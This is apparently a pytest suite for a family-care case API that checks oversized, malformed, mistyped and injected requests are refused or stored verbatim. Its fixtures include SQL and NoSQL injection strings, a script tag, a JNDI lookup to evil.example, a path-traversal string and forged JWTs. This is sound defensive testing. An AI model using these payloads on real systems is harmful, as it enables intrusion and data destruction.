"""Hostile input: oversized, malformed, mistyped, out of range, or trying to inject.

Every such request is refused with a 4xx application/problem+json, never a 5xx, and stores
nothing (the store's position is unchanged). Text that is hostile-looking but valid (a
quote, a NUL, markup, 5000 unicorns) is stored and returned verbatim: never interpreted."""

from __future__ import annotations

import json
from collections.abc import Iterator
from datetime import UTC, datetime, timedelta
from typing import Any
from uuid import UUID

import jwt
import pytest
from fastapi.testclient import TestClient
from httpx import Response

from application.clock import FixedClock
from application.settings import Settings
from domain.authorization import Role, User
from interfaces.http.app import create_app
from tests.http.conftest import COORDINATOR_USER, Headers, melding_json

PROBLEM_JSON = "application/problem+json"
JSON = {"content-type": "application/json"}
Body = dict[str, Any]
# Refused by validation or authentication before any store is read or written: the
# backend cannot matter, so these run on SQLite only. The rest runs on both.
BEFORE_THE_STORE = pytest.mark.parametrize("store_settings", ["sqlite"], indirect=True)


def stored(client: TestClient) -> int:
    position: int = client.app.state.cases.position()  # type: ignore[attr-defined]
    return position


def assert_refused(client: TestClient, response: Response, before: int, *statuses: int) -> None:
    """A 4xx problem+json from the list, and not one event more in the store."""
    assert response.status_code in statuses, response.text
    assert response.headers["content-type"] == PROBLEM_JSON
    problem = response.json()
    assert problem["status"] == response.status_code
    assert problem["title"]
    assert "Traceback" not in response.text
    assert stored(client) == before


@pytest.fixture
def headers(auth: Headers) -> dict[str, str]:
    return auth(COORDINATOR_USER)


@pytest.fixture
def case_id(client: TestClient, headers: dict[str, str]) -> str:
    opened = client.post("/v1/cases", json=melding_json(), headers=headers)
    assert opened.status_code == 201, opened.text
    case: str = opened.json()["case_id"]
    return case


def with_member(index: int, **fields: Any) -> Body:
    """A melding whose member `index` (0 mother, 1 father, 2 child) has `fields` changed."""
    members = melding_json()["members"]
    members[index] = {**members[index], **fields}
    return melding_json(members=members)


def padded_to(body: Body, size: int) -> bytes:
    """`body` as JSON with trailing whitespace (still valid JSON), exactly `size` bytes."""
    raw = json.dumps(body).encode()
    assert len(raw) <= size
    return raw + b" " * (size - len(raw))


# --- Bodies over the size limit --------------------------------------------------------


@pytest.mark.parametrize("path", ["/v1/cases", "/v1/cases/{case_id}/conversations"])
def test_a_body_declared_larger_than_the_limit_is_refused_with_413(
    client: TestClient, headers: dict[str, str], case_id: str, path: str
) -> None:
    limit = client.app.state.settings.max_body_bytes  # type: ignore[attr-defined]
    body = padded_to({"kind": "help", "minutes": "1", "writing_minutes": "1"}, limit + 1)
    before = stored(client)
    response = client.post(path.format(case_id=case_id), content=body, headers={**headers, **JSON})
    assert_refused(client, response, before, 413)
    assert str(limit) in response.json()["detail"]


def test_a_body_of_exactly_the_limit_is_read(client: TestClient, headers: dict[str, str]) -> None:
    limit = client.app.state.settings.max_body_bytes  # type: ignore[attr-defined]
    response = client.post(
        "/v1/cases", content=padded_to(melding_json(), limit), headers={**headers, **JSON}
    )
    assert response.status_code == 201, response.text


def streamed(total: int, chunk: int = 16 * 1024) -> Iterator[bytes]:
    """A JSON body of `total` bytes sent in chunks, without a Content-Length."""
    yield b'{"help_question": "'
    sent = 19
    while sent < total - 2:
        piece = min(chunk, total - 2 - sent)
        yield b"x" * piece
        sent += piece
    yield b'"}'


def test_a_streamed_body_over_the_limit_is_refused_and_stores_nothing(
    client: TestClient, headers: dict[str, str]
) -> None:
    limit = client.app.state.settings.max_body_bytes  # type: ignore[attr-defined]
    before = stored(client)
    response = client.post("/v1/cases", content=streamed(4 * limit), headers={**headers, **JSON})
    assert "content-length" not in response.request.headers
    assert_refused(client, response, before, 400, 413)


def test_a_streamed_body_over_the_limit_is_answered_413(
    client: TestClient, headers: dict[str, str]
) -> None:
    limit = client.app.state.settings.max_body_bytes  # type: ignore[attr-defined]
    response = client.post("/v1/cases", content=streamed(4 * limit), headers={**headers, **JSON})
    assert response.status_code == 413


# --- Not JSON, or not the JSON expected -------------------------------------------------

INVALID_JSON = {
    "truncated": b'{"municipality": ',
    "not json": b"melding: den-haag",
    "empty": b"",
    "invalid utf-8": b'{"help_question": "\xff\xfe"}',
    "lone surrogate": b'{"help_question": "\\ud800"}',
    "single quotes": b"{'municipality': 'den-haag'}",
    "trailing comma": b'{"municipality": "den-haag",}',
    "two documents": b"{}{}",
    "nested 100000 deep": b"[" * 100_000,
    "NaN": b"NaN",
}


@BEFORE_THE_STORE
@pytest.mark.parametrize("raw", INVALID_JSON.values(), ids=INVALID_JSON.keys())
def test_a_body_that_is_not_valid_json_is_refused(
    client: TestClient, headers: dict[str, str], raw: bytes
) -> None:
    before = stored(client)
    response = client.post("/v1/cases", content=raw, headers={**headers, **JSON})
    assert_refused(client, response, before, 400, 422)


@BEFORE_THE_STORE
def test_json_sent_as_something_else_is_refused(
    client: TestClient, headers: dict[str, str]
) -> None:
    before = stored(client)
    raw = json.dumps(melding_json()).encode()
    response = client.post(
        "/v1/cases", content=raw, headers={**headers, "content-type": "text/plain"}
    )
    assert_refused(client, response, before, 415, 422)


WRONG_TYPES_ON_OPENING: dict[str, Any] = {
    "a list": [melding_json()],
    "null": None,
    "a number": 42,
    "a string": "den-haag",
    "members as an object": melding_json(members={"mother": {}}),
    "members as strings": melding_json(members=["mother", "child"]),
    "help question as an object": melding_json(help_question={"$ne": None}),
    "help question as a list": melding_json(help_question=["hulp"]),
    "help question as a number": melding_json(help_question=12),
    "municipality as a number": melding_json(municipality=42),
    "unknown urgency": melding_json(urgency="extreme"),
    "problems as a string": melding_json(problems_parents="gezin_en_opvoeding"),
    "channel null": melding_json(channel=None),
    "previous case not a uuid": melding_json(previous_case_id="' OR '1'='1"),
    "birth date as a number": with_member(2, birth_date=20180301),
    "birth date as a boolean": with_member(2, birth_date=True),
    "member id with a space": with_member(0, member_id="mother 1"),
}


@BEFORE_THE_STORE
@pytest.mark.parametrize("body", WRONG_TYPES_ON_OPENING.values(), ids=WRONG_TYPES_ON_OPENING.keys())
def test_an_opening_with_a_wrongly_typed_field_is_refused(
    client: TestClient, headers: dict[str, str], body: Any
) -> None:
    before = stored(client)
    response = client.post("/v1/cases", json=body, headers=headers)
    assert_refused(client, response, before, 422)


WRONG_TYPES_IN_COMMANDS: list[tuple[str, str, Any]] = [
    ("triage", "/triage", {"outcome": "complex", "coordination_level": "five"}),
    ("triage", "/triage", {"outcome": "complex", "coordination_level": 2.5}),
    ("triage", "/triage", {"outcome": "complex", "coordination_level": None}),
    ("triage", "/triage", {"outcome": "complex", "coordination_level": [5]}),
    ("triage", "/triage", {"outcome": "complex", "coordination_level": {"$gt": 0}}),
    ("triage", "/triage", {"outcome": "complex", "coordination_level": 10**30}),
    ("triage", "/triage", {"outcome": "COMPLEX", "coordination_level": 5}),
    ("minutes", "/time-registrations", {"minutes": "NaN"}),
    ("minutes", "/time-registrations", {"minutes": "Infinity"}),
    ("minutes", "/time-registrations", {"minutes": -1}),
    ("minutes", "/time-registrations", {"minutes": "1e400"}),
    ("minutes", "/time-registrations", {"minutes": "0.001"}),
    ("close", "/close", {"reason": None, "relapse_risk": "low"}),
    ("consent", "/consents", {"given_by": "mother", "about": ["child"]}),
    ("plan", "/plan", {"goals": {"g1": "school"}, "agreements": []}),
]


@BEFORE_THE_STORE
@pytest.mark.parametrize(
    ("path", "body"),
    [(path, body) for _, path, body in WRONG_TYPES_IN_COMMANDS],
    ids=[f"{name}-{i}" for i, (name, _, _) in enumerate(WRONG_TYPES_IN_COMMANDS)],
)
def test_a_command_with_a_wrongly_typed_field_is_refused(
    client: TestClient, headers: dict[str, str], case_id: str, path: str, body: Any
) -> None:
    before = stored(client)
    response = client.post(f"/v1/cases/{case_id}{path}", json=body, headers=headers)
    assert_refused(client, response, before, 422)


@BEFORE_THE_STORE
@pytest.mark.parametrize(
    "raw", [b'{"minutes": NaN}', b'{"minutes": Infinity}', b'{"minutes": 1e400}']
)
def test_non_finite_json_numbers_are_refused(
    client: TestClient, headers: dict[str, str], case_id: str, raw: bytes
) -> None:
    before = stored(client)
    response = client.post(
        f"/v1/cases/{case_id}/time-registrations", content=raw, headers={**headers, **JSON}
    )
    assert_refused(client, response, before, 422)


def test_a_boolean_is_not_taken_for_a_number(
    client: TestClient, headers: dict[str, str], case_id: str
) -> None:
    before = stored(client)
    response = client.post(
        f"/v1/cases/{case_id}/triage",
        json={"outcome": "complex", "coordination_level": True},
        headers=headers,
    )
    assert_refused(client, response, before, 422)


UNKNOWN_FIELDS: dict[str, Body] = {
    "at the top": melding_json(is_admin=True),
    "the server's recorded time": melding_json(recorded_at="2020-01-01T00:00:00Z"),
    "an actor": melding_json(actor={"subject": "admin", "organisation": "x", "role": "admin"}),
    "a case id": melding_json(case_id="00000000-0000-0000-0000-000000000000"),
    "in a member": with_member(0, bsn="123456782"),
}


@BEFORE_THE_STORE
@pytest.mark.parametrize("body", UNKNOWN_FIELDS.values(), ids=UNKNOWN_FIELDS.keys())
def test_unknown_fields_are_refused_not_dropped(
    client: TestClient, headers: dict[str, str], body: Body
) -> None:
    before = stored(client)
    response = client.post("/v1/cases", json=body, headers=headers)
    assert_refused(client, response, before, 422)
    assert "Extra inputs are not permitted" in response.text


@BEFORE_THE_STORE
def test_an_unknown_field_in_a_nested_command_part_is_refused(
    client: TestClient, headers: dict[str, str], case_id: str
) -> None:
    goal = {"goal_id": "g1", "member_id": "child", "life_domain": "school", "description": "d"}
    body = {"goals": [{**goal, "approved_by": "admin"}], "agreements": []}
    before = stored(client)
    response = client.post(f"/v1/cases/{case_id}/plan", json=body, headers=headers)
    assert_refused(client, response, before, 422)


# --- Dates out of range -----------------------------------------------------------------

IMPOSSIBLE_DATES = ["0000-01-01", "10000-01-01", "-0001-01-01", "2026-02-30", "2026-13-01", ""]


@BEFORE_THE_STORE
@pytest.mark.parametrize("birth_date", IMPOSSIBLE_DATES)
def test_an_impossible_birth_date_is_refused(
    client: TestClient, headers: dict[str, str], birth_date: str
) -> None:
    before = stored(client)
    response = client.post("/v1/cases", json=with_member(2, birth_date=birth_date), headers=headers)
    assert_refused(client, response, before, 422)


def test_a_child_born_in_the_future_is_refused(client: TestClient, headers: dict[str, str]) -> None:
    before = stored(client)
    response = client.post(
        "/v1/cases", json=with_member(2, birth_date="2030-01-01"), headers=headers
    )
    assert_refused(client, response, before, 422)
    assert response.json()["rule"] == "valid-input"


def test_a_parent_born_in_the_future_is_refused(
    client: TestClient, headers: dict[str, str]
) -> None:
    before = stored(client)
    response = client.post(
        "/v1/cases", json=with_member(0, birth_date="2030-01-01"), headers=headers
    )
    assert_refused(client, response, before, 422)


IMPOSSIBLE_MOMENTS = [
    "0000-01-01T00:00:00Z",
    "10000-01-01T00:00:00Z",
    "2026-06-01T12:00:00",  # no timezone
    "2026-06-01T12:00:00+24:00",
    "2026-06-01T25:00:00Z",
    "yesterday",
    "2026-06-01T12:00:00-22:00",  # an offset PostgreSQL cannot store
    "2026-06-01T12:00:00+14:01",  # no place on earth is this far east
    "1780308000",  # a number of seconds is not a moment
    "9999-12-31T23:59:59Z",
    "0001-01-01T00:00:00Z",
]


@BEFORE_THE_STORE
@pytest.mark.parametrize("occurred_at", IMPOSSIBLE_MOMENTS)
def test_an_impossible_occurred_at_is_refused(
    client: TestClient, headers: dict[str, str], case_id: str, occurred_at: str
) -> None:
    before = stored(client)
    opening = client.post("/v1/cases", json=melding_json(occurred_at=occurred_at), headers=headers)
    assert_refused(client, opening, before, 422)
    triage = client.post(
        f"/v1/cases/{case_id}/triage",
        json={"outcome": "complex", "coordination_level": 5, "occurred_at": occurred_at},
        headers=headers,
    )
    assert_refused(client, triage, before, 422)


FAR_MOMENTS = {
    "far future": "2999-12-31T23:59:59Z",
    "far future, far west": "2999-12-31T23:59:59-14:00",
    "a second from now": "2026-06-01T12:00:01Z",
    "far past": "1900-01-01T00:00:00Z",
    "far past, far east": "1900-01-01T00:00:00+14:00",
}
OUTSIDE_THE_CASE = {**FAR_MOMENTS, "a second before it opened": "2026-06-01T11:59:59Z"}


@pytest.mark.parametrize("occurred_at", OUTSIDE_THE_CASE.values(), ids=OUTSIDE_THE_CASE.keys())
def test_a_command_that_did_not_happen_within_the_case_is_refused(
    client: TestClient, headers: dict[str, str], case_id: str, occurred_at: str
) -> None:
    before = stored(client)
    response = client.post(
        f"/v1/cases/{case_id}/triage",
        json={"outcome": "complex", "coordination_level": 5, "occurred_at": occurred_at},
        headers=headers,
    )
    assert_refused(client, response, before, 409)
    assert response.json()["rule"] == "occurred-at-within-case"


@pytest.mark.parametrize("occurred_at", FAR_MOMENTS.values(), ids=FAR_MOMENTS.keys())
def test_a_melding_from_far_in_the_future_or_past_is_refused(
    client: TestClient, headers: dict[str, str], occurred_at: str
) -> None:
    """The future breaks the occurred-at rule (409); the past, before the child was born, 422."""
    before = stored(client)
    response = client.post("/v1/cases", json=melding_json(occurred_at=occurred_at), headers=headers)
    assert_refused(client, response, before, 409, 422)


def test_a_plan_whose_next_evaluation_lies_before_it_is_refused(
    client: TestClient, headers: dict[str, str], case_id: str
) -> None:
    before = stored(client)
    plan = {"goals": [], "agreements": [], "next_evaluation": "0001-01-01"}
    response = client.post(f"/v1/cases/{case_id}/plan", json=plan, headers=headers)
    assert_refused(client, response, before, 422)


# --- Injection strings ------------------------------------------------------------------

SQL = "'; DROP TABLE cases_events; --"
NOSQL = '{"$ne": null}'
INJECTIONS = {
    "sql": SQL,
    "sql in a comment": "Robert'); DELETE FROM stored_events WHERE ('1'='1",
    "nosql operator": NOSQL,
    "markup": "<script>alert('gezin')</script>",
    "templates": "{{7*7}} ${jndi:ldap://evil.example/a} %s%n",
    "escapes as text": '\\u0000 \\n \\" \\\\',
    "combining characters": "Z\u0351\u0352a\u0353\u0354l\u0355g\u0356o",
    "5000 unicorns": "\U0001f984" * 5000,
    "a family emoji (joiners)": "\U0001f468\u200d\U0001f469\u200d\U0001f467",
}
UNPRINTABLE = {
    "nul character": "voor\u0000na",
    "escape (terminal control)": "\u001b[2Jweg",
    "delete": "a\u007fb",
    "C1 control": "a\u0085b",
    "right-to-left override": "\u202egnp.exe\u202c",
    "right-to-left isolate": "\u2067abc\u2069",
    "zero-width space": "Sam\u200b",
    "byte-order mark": "\ufeffSam",
    "lone surrogate": "a\ud800b",
    "noncharacter": "a\uffffb",
}


@pytest.mark.parametrize("text", INJECTIONS.values(), ids=INJECTIONS.keys())
def test_hostile_looking_text_is_stored_and_returned_verbatim(
    client: TestClient, headers: dict[str, str], text: str
) -> None:
    short = text[:200]
    members = melding_json()["members"]
    members[0] = {**members[0], "name": short, "address": short}
    opened = client.post(
        "/v1/cases", json=melding_json(members=members, help_question=text), headers=headers
    )
    assert opened.status_code == 201, opened.text
    case_id = opened.json()["case_id"]

    shown = client.get(f"/v1/cases/{case_id}", headers=headers).json()
    assert shown["help_question"] == text
    assert shown["members"][0]["name"] == shown["members"][0]["address"] == short
    case = client.app.state.cases.get_case(UUID(case_id))  # type: ignore[attr-defined]
    assert case.help_question == text
    assert case.members["mother"].name == short


@pytest.mark.parametrize("text", INJECTIONS.values(), ids=INJECTIONS.keys())
def test_hostile_looking_text_in_a_plan_is_returned_verbatim(
    client: TestClient, headers: dict[str, str], case_id: str, text: str
) -> None:
    goal = {"goal_id": "g1", "member_id": "child", "life_domain": text[:200], "description": text}
    agreement = {"agreement_id": "a1", "organisation": "school", "task": text}
    response = client.post(
        f"/v1/cases/{case_id}/plan",
        json={"goals": [goal], "agreements": [agreement]},
        headers=headers,
    )
    assert response.status_code == 200, response.text
    plan = client.get(f"/v1/cases/{case_id}", headers=headers).json()["plan"]
    assert plan["goals"] == [goal]
    assert plan["agreements"][0]["task"] == text


def post_ascii(client: TestClient, path: str, body: Body, headers: dict[str, str]) -> Response:
    """JSON with every non-ASCII character escaped: a lone surrogate cannot be sent as UTF-8."""
    return client.post(path, content=json.dumps(body).encode(), headers={**headers, **JSON})


@BEFORE_THE_STORE
@pytest.mark.parametrize("text", UNPRINTABLE.values(), ids=UNPRINTABLE.keys())
def test_unprintable_text_is_refused_naming_the_field(
    client: TestClient, headers: dict[str, str], case_id: str, text: str
) -> None:
    """Control, bidirectional and invisible characters: 422, the field named, nothing stored."""
    before = stored(client)
    opening = post_ascii(client, "/v1/cases", with_member(0, name=text), headers)
    assert_refused(client, opening, before, 422)
    assert [e["field"] for e in opening.json()["errors"]] == ["body.members.0.name"]
    goal = {"goal_id": "g1", "member_id": "child", "life_domain": "school", "description": text}
    plan = post_ascii(
        client, f"/v1/cases/{case_id}/plan", {"goals": [goal], "agreements": []}, headers
    )
    assert_refused(client, plan, before, 422)
    assert [e["field"] for e in plan.json()["errors"]] == ["body.goals.0.description"]


@BEFORE_THE_STORE
@pytest.mark.parametrize("text", ["a\tb", "a\nb", "a\u2028b", "a\U000e0041b"])
def test_tabs_line_breaks_and_format_characters_are_for_multiline_text_only(
    client: TestClient, headers: dict[str, str], text: str
) -> None:
    before = stored(client)
    in_a_name = client.post("/v1/cases", json=with_member(0, name=text), headers=headers)
    assert_refused(client, in_a_name, before, 422)
    in_a_question = client.post("/v1/cases", json=melding_json(help_question=text), headers=headers)
    assert in_a_question.status_code == 201, in_a_question.text


TOO_LONG: dict[str, Body] = {
    "help question of 5001 unicorns": melding_json(help_question="\U0001f984" * 5001),
    "name of 201 characters": with_member(0, name="x" * 201),
    "address of 501 characters": with_member(0, address="x" * 501),
    "reporter of 65 characters": melding_json(reporter_professional="x" * 65),
}


@BEFORE_THE_STORE
@pytest.mark.parametrize("body", TOO_LONG.values(), ids=TOO_LONG.keys())
def test_text_over_its_length_is_refused(
    client: TestClient, headers: dict[str, str], body: Body
) -> None:
    before = stored(client)
    response = client.post("/v1/cases", json=body, headers=headers)
    assert_refused(client, response, before, 422)


INJECTED_IDENTIFIERS: dict[str, Body] = {
    "municipality": melding_json(municipality=SQL),
    "team": melding_json(team=NOSQL),
    "member id": with_member(0, member_id=SQL),
    "help question id": melding_json(help_question_id="hq\u0000"),
    "reporting organisation": melding_json(reporter_organisation="../../etc/passwd"),
}


@BEFORE_THE_STORE
@pytest.mark.parametrize("body", INJECTED_IDENTIFIERS.values(), ids=INJECTED_IDENTIFIERS.keys())
def test_an_identifier_that_is_not_an_identifier_is_refused(
    client: TestClient, headers: dict[str, str], body: Body
) -> None:
    before = stored(client)
    response = client.post("/v1/cases", json=body, headers=headers)
    assert_refused(client, response, before, 422)


INJECTED_PATHS = {
    "/referrals/%27%3B%20DROP%20TABLE%20cases_events%3B%20--/accept": {},
    "/referrals/%7B%22%24ne%22%3A%20null%7D/start": {},
    "/referrals/a%00b/end": {"reason": "klaar"},
    "/consents/%27%20OR%201%3D1%20--/withdraw": {"withdrawn_by": ["mother"]},
}


@pytest.mark.parametrize(("path", "body"), INJECTED_PATHS.items(), ids=list(INJECTED_PATHS))
def test_an_injection_in_a_path_finds_nothing_and_stores_nothing(
    client: TestClient, headers: dict[str, str], case_id: str, path: str, body: Body
) -> None:
    before = stored(client)
    response = client.post(f"/v1/cases/{case_id}{path}", json=body, headers=headers)
    assert_refused(client, response, before, 404, 422)


@BEFORE_THE_STORE
@pytest.mark.parametrize("case", ["%27%20OR%201%3D1%20--", "..%2F..%2Fhealth", "0" * 1000])
def test_a_case_id_that_is_not_a_uuid_is_refused(
    client: TestClient, headers: dict[str, str], case: str
) -> None:
    before = stored(client)
    for response in (
        client.get(f"/v1/cases/{case}", headers=headers),
        client.post(f"/v1/cases/{case}/escalations", json={}, headers=headers),
    ):
        assert_refused(client, response, before, 404, 422)


# --- Query parameters and headers -------------------------------------------------------


@BEFORE_THE_STORE
@pytest.mark.parametrize("position", ["-1", "abc", "1.5", "1e3", ""])
def test_a_position_that_is_not_a_position_is_refused(
    client: TestClient, headers: dict[str, str], case_id: str, position: str
) -> None:
    response = client.get(f"/v1/cases/{case_id}?position={position}", headers=headers)
    assert_refused(client, response, stored(client), 422)


@pytest.fixture
def impatient_client(api_settings: Settings, clock: FixedClock) -> Iterator[TestClient]:
    """A client whose reads wait at most 50 ms for a position."""
    settings = api_settings.model_copy(update={"wait_timeout_seconds": 0.05})
    with TestClient(create_app(settings, clock), raise_server_exceptions=False) as test:
        yield test


def test_a_position_beyond_any_store_is_refused_at_once(
    impatient_client: TestClient, headers: dict[str, str]
) -> None:
    opened = impatient_client.post("/v1/cases", json=melding_json(), headers=headers)
    case_id = opened.json()["case_id"]
    response = impatient_client.get(f"/v1/cases/{case_id}?position={2**63}", headers=headers)
    assert response.status_code == 422


def token(
    claims: Body, key: str | None = "another-secret-" + "y" * 32, algorithm: str = "HS256"
) -> str:
    now = datetime.now(UTC)
    defaults: Body = {
        "sub": "intruder",
        "org": "cjg-den-haag",
        "roles": ["admin"],
        "iss": "gezinsregie",
        "aud": "gezinsregie",
        "iat": now,
        "exp": now + timedelta(hours=1),
    }
    return jwt.encode({**defaults, **claims}, key, algorithm=algorithm)


@pytest.fixture
def own_key(api_settings: Settings) -> str:
    return api_settings.jwt_secret.get_secret_value()


HOSTILE_AUTHORIZATION = {
    "sql as token": lambda key: f"Bearer {SQL}",
    "basic credentials": lambda key: "Basic YWRtaW46YWRtaW4=",
    "empty bearer": lambda key: "Bearer ",
    "unsigned token": lambda key: "Bearer " + token({}, None, "none"),
    "token of another key": lambda key: "Bearer " + token({}),
    "expired token": lambda key: "Bearer " + token({"exp": datetime(2020, 1, 1, tzinfo=UTC)}, key),
    "roles as a string": lambda key: "Bearer " + token({"roles": "admin"}, key),
    "unknown role": lambda key: "Bearer " + token({"roles": ["superuser"]}, key),
    "another audience": lambda key: "Bearer " + token({"aud": "elsewhere"}, key),
    "no organisation": lambda key: "Bearer " + token({"org": None}, key),
}


@BEFORE_THE_STORE
@pytest.mark.parametrize(
    "authorization", HOSTILE_AUTHORIZATION.values(), ids=HOSTILE_AUTHORIZATION.keys()
)
def test_a_hostile_authorization_header_is_answered_401(
    client: TestClient, own_key: str, authorization: Any
) -> None:
    before = stored(client)
    response = client.post(
        "/v1/cases", json=melding_json(), headers={"Authorization": authorization(own_key)}
    )
    assert_refused(client, response, before, 401)
    assert response.headers["www-authenticate"] == "Bearer"


def test_a_valid_token_of_the_same_shape_is_accepted(client: TestClient, own_key: str) -> None:
    """The hostile tokens above fail for what is wrong with them, not for their shape."""
    authorization = "Bearer " + token({}, own_key)
    response = client.post(
        "/v1/cases", json=melding_json(), headers={"Authorization": authorization}
    )
    assert response.status_code == 201, response.text


@BEFORE_THE_STORE
def test_a_huge_request_id_is_cut_to_64_characters(client: TestClient) -> None:
    response = client.get("/health", headers={"x-request-id": "r" * 10_000})
    assert response.status_code == 200
    assert response.headers["x-request-id"] == "r" * 64


def test_a_user_without_a_municipality_claim_cannot_open_cases(
    client: TestClient, auth: Headers
) -> None:
    """A coordinator token lacking the municipality claim covers nothing."""
    nowhere = User("coordinator-9", "cjg-den-haag", frozenset({Role.COORDINATOR}))
    before = stored(client)
    response = client.post("/v1/cases", json=melding_json(), headers=auth(nowhere))
    assert_refused(client, response, before, 403)
